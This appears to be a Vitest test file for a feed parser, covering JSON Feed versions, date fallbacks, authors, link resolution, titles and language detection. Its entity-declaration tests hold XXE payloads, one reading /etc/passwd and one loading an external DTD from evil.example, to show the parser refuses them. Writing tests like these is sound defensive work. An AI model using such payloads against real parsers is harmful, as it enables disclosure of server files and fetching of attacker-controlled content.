// Feed fixtures for each class of parsing miss (JSON Feed variants, dates, authors, links, titles, language, entities).
import { readdirSync, readFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { ATOM_FIELDS } from '../../lib/ingest/formats/atom.ts';
import { RSS_FIELDS } from '../../lib/ingest/formats/rss.ts';
import { readXmlDocument, readXmlTree, type XmlNode } from '../../lib/ingest/formats/xml.ts';
import { normalizeFeed } from '../../lib/ingest/normalize.ts';
import { parseFeed, type ParsedFeed } from '../../lib/ingest/parse.ts';
import { readRootElement, sanitizeXml, scanProlog, wrapInlineMarkup } from '../../lib/ingest/xml-prepare.ts';
import type { Item } from '../../lib/types.ts';

const dir = resolve(dirname(fileURLToPath(import.meta.url)), '../fixtures/feeds/classes');
const NOW = '2026-12-01T00:00:00.000Z';
const SERVED = 'https://served.example/feeds/feed.xml';

async function load(name: string, url = SERVED): Promise<{ feed: ParsedFeed; items: Item[] }> {
  const body = readFileSync(join(dir, name));
  const feed = await parseFeed(body, { url, contentType: name.endsWith('.json') ? 'application/feed+json' : undefined });
  const items = normalizeFeed(feed, { feed: { id: `fixture/${name}` }, outlet: { id: 'fixture', languages: [] }, feedUrl: url, now: NOW });
  return { feed, items };
}
const byTitle = (items: Item[]) => new Map(items.map((i) => [i.title, i]));

describe('JSON Feed versions', () => {
  it('reads "version": "1.1" (bare number), numeric ids, authors arrays and relative item URLs', async () => {
    const { feed, items } = await load('jsonfeed-1.1-bare-version.json');
    expect(feed).toMatchObject({ format: 'json', title: 'Desk notes', language: 'fr-CA' });
    expect(items.map((i) => [i.guid, i.url, i.author, i.publishedAt, i.language])).toEqual([
      ['1001', 'https://desk.example/notes/1001', 'La rédaction', '2026-11-24T19:00:00.000Z', 'fr'],
      ['1002', 'https://served.example/notes/1002', 'Ana Pérez, Luc Roy', '2026-11-24T16:30:00.000Z', 'fr'],
    ]);
  });

  it('reads the http: version URL with a 1.0 author object and an external_url only', async () => {
    const { items } = await load('jsonfeed-1.0-http-version.json');
    expect(items[0]).toMatchObject({ url: 'https://elsewhere.example/story', author: 'Sam Writer', summary: 'A summary only.' });
  });

  it('reads a JSON object with items but no version, and still refuses JSON that is no feed', async () => {
    const { items } = await load('jsonfeed-no-version.json');
    expect(items.map((i) => i.title)).toEqual(['Still a feed']);
    await expect(parseFeed('{"version": "2.0", "data": []}')).rejects.toThrow(/JSON Feed/);
    await expect(parseFeed('[1, 2]')).rejects.toThrow(/JSON Feed/);
  });
});

describe('dates before fetch time', () => {
  it('RSS items: atom:published/updated, dc:date, a10:updated, dcterms:modified, a readable date after an unreadable one', async () => {
    const { items } = await load('rss-dates.rss');
    expect(items.map((i) => [i.title, i.publishedAt])).toEqual([
      ['Atom published in RSS', '2026-11-20T08:00:00.000Z'],
      ['Atom updated only', '2026-11-19T06:30:00.000Z'],
      ['Dublin Core date', '2026-11-18T12:00:00.000Z'],
      ['.NET a10 prefix', '2026-11-17T10:00:00.000Z'],
      ['Unreadable pubDate, readable dc:date', '2026-11-16T09:00:00.000Z'],
      ['dcterms modified only', '2026-11-15T09:00:00.000Z'],
    ]);
    expect(items.some((i) => i.publishedAt === NOW)).toBe(false);
  });

  it('Atom 0.3 entries: issued, then modified, then created', async () => {
    const { feed, items } = await load('atom03-dates.atom');
    expect(feed.format).toBe('atom');
    expect(feed.entries.map((e) => [e.date, e.updated])).toEqual([
      ['2026-11-21T09:00:00-05:00', '2026-11-21T15:00:00Z'],
      [undefined, '2026-11-20T08:00:00Z'],
      ['2026-11-19T08:00:00Z', undefined],
    ]);
    expect(items.map((i) => i.publishedAt)).toEqual(['2026-11-21T14:00:00.000Z', '2026-11-20T08:00:00.000Z', '2026-11-19T08:00:00.000Z']);
  });
});

describe('authors', () => {
  it('Atom: an entry without authors takes its source\'s, then the feed\'s (RFC 4287 §4.2.1); several are kept', async () => {
    const { feed, items } = await load('atom-authors.atom');
    expect(feed.entries.map((e) => e.authors)).toEqual([['Newsroom Desk'], ['Amina Diallo', 'Jean Ouédraogo'], ['Wire Staff'], ['tips@authors.example']]);
    expect(items.map((i) => i.author)).toEqual(['Newsroom Desk', 'Amina Diallo, Jean Ouédraogo', 'Wire Staff', 'tips@authors.example']);
  });

  it('RSS: "email (Name)" keeps the name, several dc:creator are joined, the channel editor is not an item author', async () => {
    const { items } = await load('rss-authors.rss');
    expect(items.map((i) => i.author)).toEqual(['Maria Santos', 'Ada Lovelace, Charles Babbage', undefined]);
  });
});

describe('links', () => {
  it('RSS: permalink guid, FeedBurner origLink, enclosure last, item fragments kept, xml:base on root and item', async () => {
    const { feed, items } = await load('rss-links.rss');
    expect(feed.link).toBe('https://links.example/');
    expect(items.map((i) => [i.title, i.url])).toEqual([
      ['Permalink guid', 'https://links.example/news/2026/guid-story'],
      ['Guid that is not a permalink', 'https://cdn.links.example/audio/42.mp3'],
      ['FeedBurner', 'https://links.example/news/original'],
      ['Anchor on a changelog page', 'https://links.example/changelog#item572'],
      ['Relative to xml:base', 'https://links.example/news/2026/relative'],
      ['Item base', 'https://other.links.example/section/inner'],
      ['Tracking fragment', 'https://links.example/news/tracked'],
    ]);
  });

  it('Atom: URL-valued id, enclosure link, nested xml:base, origLink, the HTML alternate over others', async () => {
    const { feed, items } = await load('atom-links.atom');
    expect(feed.link).toBe('https://atom-links.example/blog/');
    expect(items.map((i) => i.url)).toEqual([
      'https://atom-links.example/blog/id-link',
      'https://atom-links.example/media/2.mp3',
      'https://atom-links.example/blog/posts/three.html',
      'https://atom-links.example/blog/four',
      'https://atom-links.example/blog/five.html',
    ]);
  });

  it('relative links without xml:base resolve against the document URL, as served', async () => {
    const a = await load('rss-relative.rss', 'https://one.example/rss/feed.xml');
    const b = await load('rss-relative.rss', 'https://two.example/feed');
    expect([a.items[0]?.url, a.items[0]?.image]).toEqual(['https://one.example/articles/7', 'https://one.example/img/7.jpg']);
    expect(b.items[0]?.url).toBe('https://two.example/articles/7');
  });
});

describe('titles', () => {
  it('escaped markup keeps its text; text that only looks like a tag stays; a title is never the URL when it has text', async () => {
    const { items } = await load('escaped-titles.rss');
    expect(items.map((i) => i.title)).toEqual(['Code Test', '<Untitled>', 'Review: Oppenheimer & more', '1 < 2 but 3 > 2', 'Only a picture as a title.']);
    expect(items.every((i) => !i.title.startsWith('https://'))).toBe(true);
  });
});

describe('language', () => {
  it('declared tags win: root xml:lang, item dc:language, item xml:lang; detection never overrides them', async () => {
    const { feed, items } = await load('declared-language.rss');
    expect(feed.language).toBe('pt-BR');
    expect(items.map((i) => i.language)).toEqual(['pt', 'es', 'en']);
  });

  it('detection runs only on enough text: a short undeclared headline is "und", a paragraph is detected', async () => {
    const { items } = await load('undeclared-language.rss');
    expect(items.map((i) => i.language)).toEqual(['und', 'fr']);
  });

  it('the HTTP Content-Language is the feed\'s language when the document declares none', async () => {
    const body = readFileSync(join(dir, 'undeclared-language.rss'));
    expect((await parseFeed(body, { contentLanguage: 'en' })).language).toBe('en');
    expect((await parseFeed(body, { contentLanguage: 'en, fr' })).language).toBeUndefined();
    expect((await parseFeed(readFileSync(join(dir, 'declared-language.rss')), { contentLanguage: 'en' })).language).toBe('pt-BR');
  });
});

describe('entity declarations', () => {
  it('<!ENTITY in a comment, in CDATA or escaped in text is content, not a DTD', async () => {
    const { feed, items } = await load('entity-in-cdata.rss');
    // The CDATA reaches the entry verbatim (markup, as the feed wrote it), nothing declared or expanded.
    expect(feed.entries[0]?.summary).toBe('<p>An attacker sends <code><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]></code> and waits.</p>');
    expect(items.map((i) => i.title)).toEqual(['How XXE works', 'Billion laughs, escaped']);
    expect(items[1]?.summary).toBe('The payload starts with <!ENTITY lol "lol"> and grows.');
  });

  it('a real internal subset declaring entities is still refused, one with only comments is not', async () => {
    const doc = (subset: string) => `<?xml version="1.0"?><!DOCTYPE rss [${subset}]><rss version="2.0"><channel><title>T</title></channel></rss>`;
    await expect(parseFeed(doc('<!ENTITY x "y">'))).rejects.toThrow(/declares XML entities/);
    await expect(parseFeed(doc('<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;'))).rejects.toThrow(/declares XML entities/);
    await expect(parseFeed(doc('<!-- <!ENTITY x "y"> --><!ELEMENT rss ANY>'))).resolves.toMatchObject({ title: 'T' });
  });
});

describe('rss-parser public API and the xml2js pass read the same elements', () => {
  const xmlFixtures = readdirSync(dir).filter((f) => !f.endsWith('.json'));
  it.each(xmlFixtures)('%s', async (name) => {
    const xml = sanitizeXml(wrapInlineMarkup(readFileSync(join(dir, name), 'utf8')));
    const root = readRootElement(xml, scanProlog(xml).end)!;
    const layout = root.local === 'feed' ? 'atom' : root.local === 'RDF' ? 'rdf' : 'rss';
    const fields = layout === 'atom' ? ATOM_FIELDS : RSS_FIELDS;
    const viaParser = await readXmlDocument(xml, root, layout, fields);
    const viaTree = await readXmlTree(xml, root, layout);
    const declared = (names: readonly string[]) => (n: XmlNode) =>
      Object.fromEntries(Object.entries(n).filter(([k]) => k === '$' || names.includes(k)));
    expect(viaParser.via).toBe('rss-parser');
    expect(viaParser.items.length).toBeGreaterThan(0);
    expect(viaParser.items).toEqual(viaTree.items.map(declared(fields.item)));
    expect(viaParser.feed).toEqual(declared(fields.feed)(viaTree.feed));
  });

  it('documents rss-parser rejects (an <rss> without channel, an Atom link without attributes) are read by xml2js', async () => {
    const noChannel = await parseFeed('<rss><item><title>Loose item</title><link>https://loose.example/1</link></item></rss>');
    expect(noChannel.entries).toMatchObject([{ title: 'Loose item', link: 'https://loose.example/1' }]);
    const textLink = await parseFeed('<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>T</title><link>https://text-link.example/1</link></entry></feed>');
    expect(textLink.entries).toMatchObject([{ title: 'T', link: 'https://text-link.example/1' }]);
  });

  it('prefixes are read by namespace: a prefixed RSS root, and an Atom feed written with atom: prefixes', async () => {
    const rss = await parseFeed(
      '<r:rss xmlns:r="http://backend.userland.com/rss2" version="2.0"><r:channel><r:title>Prefixed</r:title><r:item><r:title>One</r:title></r:item></r:channel></r:rss>',
    );
    expect(rss).toMatchObject({ format: 'rss', title: 'Prefixed', entries: [{ title: 'One' }] });
    const atom = await parseFeed('<atom:feed xmlns:atom="http://www.w3.org/2005/Atom"><atom:entry><atom:title>A</atom:title><atom:id>urn:1</atom:id></atom:entry></atom:feed>');
    expect(atom).toMatchObject({ format: 'atom', entries: [{ title: 'A', guid: 'urn:1' }] });
  });
});
